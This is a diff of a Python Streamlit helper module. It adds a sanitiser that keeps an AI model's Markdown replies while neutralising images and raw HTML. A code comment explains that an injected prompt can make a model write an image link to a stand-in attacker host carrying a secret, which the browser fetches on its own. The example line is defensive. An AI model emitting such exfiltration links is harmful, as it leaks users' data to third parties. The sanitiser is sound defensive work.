@@ -14,6 +14,9 @@ goes into a Markdown-rendering call; never on text shown by ``st.text``, ``st.co
 Plotly draws titles, axis labels, hover text and point labels from its own HTML subset (``<b>``,
 ``<a href>``, ``<span style>``, ``<br>``): :func:`plotly_text` makes a user-supplied string show as
 typed there.
+
+A model's reply keeps its Markdown, minus images and raw HTML: :func:`reply_markdown`, used by
+every place that renders a reply as Markdown.
 """
 
 from __future__ import annotations
@@ -93,3 +96,81 @@ def plotly_text(text: object) -> str:
     which plotly shows literally.
     """
     return html.escape(_BIDI_CONTROL.sub("", str(text)), quote=False)
+
+
+# Model replies keep their Markdown (lists, code, tables, emphasis, links), but a prompt can make a
+# model write "![](http://attacker/?q=secret)", which the browser would fetch on its own
+# (exfiltration), or raw HTML. Outside fenced code, every "<" and every "!" before "[" is made
+# inert. In prose they become character references, which CommonMark never reads as structure:
+# "&#33;[a](u)" shows "!" and a link (fetched only on a click), "&lt;img ...>" shows as text, and
+# a backslash the model put before them escapes only the "&". Inside what looks like an inline
+# code span, where a reference would show literally, an invisible word joiner goes after them
+# instead, which stops an image or a tag just the same: so guessing a span wrong (the parser pairs
+# backticks across lines, inside table cells and link destinations) can only show a reference,
+# never let an image through. Fenced code is kept as written, and only a fence that is surely
+# one (closed, or open to the end, with no table row or less indented line that could end it).
+_FENCE_OPEN = re.compile(r"( {0,3})(`{3,}(?=[^`|]*$)|~{3,}(?=[^|]*$))")
+# A line that may open a fence: a table row can look like one ("~~~ | a |"), so any "|" makes it unsure.
+_FENCE_LIKE = re.compile(r" {0,3}(`{3}|~{3})")
+_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)([^\n]*?[^`\n])\1(?!`)")
+_IMAGE_OR_HTML = re.compile(r"!(?=\[)|<")
+_REFERENCES = {"!": "&#33;", "<": "&lt;"}
+_WORD_JOINER = "\u2060"
+
+
+def _neutralise_prose(text: str) -> str:
+    pieces: list[str] = []
+    start = 0
+    for span in _CODE_SPAN.finditer(text):
+        pieces.append(_IMAGE_OR_HTML.sub(lambda match: _REFERENCES[match.group()], text[start : span.start()]))
+        pieces.append(_IMAGE_OR_HTML.sub(lambda match: match.group() + _WORD_JOINER, span.group()))
+        start = span.end()
+    pieces.append(_IMAGE_OR_HTML.sub(lambda match: _REFERENCES[match.group()], text[start:]))
+    return "".join(pieces)
+
+
+def _fence_end(lines: list[str], opening: int) -> int | None:
+    """The index of the fence's last line (its closing line, or the reply's last line while a
+    streamed reply has not closed it yet: CommonMark runs such a fence to the end), or None when
+    a line indented less than the fence follows, which would end a list item around it and the
+    fence with it."""
+    match = _FENCE_OPEN.match(lines[opening])
+    assert match is not None
+    indent, fence = len(match.group(1)), match.group(2)
+    closing = re.compile(rf" {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$")
+    for index in range(opening + 1, len(lines)):
+        line = lines[index]
+        if closing.match(line):
+            return index
+        if line.strip() and len(line) - len(line.lstrip(" ")) < indent:
+            return None
+    return len(lines) - 1
+
+
+def reply_markdown(text: object) -> str:
+    """A model's reply as Markdown that keeps its formatting but shows no image and no raw HTML.
+
+    Use it wherever a model's reply is rendered as Markdown (``st.markdown``), streamed or kept.
+
+    Example: ``reply_markdown("**Hi** ![](http://x/?q=1) <img src=y>")`` gives
+    ``"**Hi** &#33;[](http://x/?q=1) &lt;img src=y>"``: bold text, a "!", a link and the tag as text.
+    """
+    lines = str(text).replace("\r\n", "\n").replace("\r", "\n").split("\n")
+    shown: list[str] = []
+    prose_start = index = 0
+    while index < len(lines):
+        if not _FENCE_LIKE.match(lines[index]):
+            index += 1
+            continue
+        end = _fence_end(lines, index) if _FENCE_OPEN.match(lines[index]) else None
+        if end is None:
+            # A parser might still read this line as a fence, and a later one as its closing line
+            # rather than an opening: from here on nothing is taken for fenced code.
+            break
+        if prose_start < index:
+            shown.append(_neutralise_prose("\n".join(lines[prose_start:index])))
+        shown.append("\n".join(lines[index : end + 1]))
+        prose_start = index = end + 1
+    if prose_start < len(lines):
+        shown.append(_neutralise_prose("\n".join(lines[prose_start:])))
+    return "\n".join(shown)
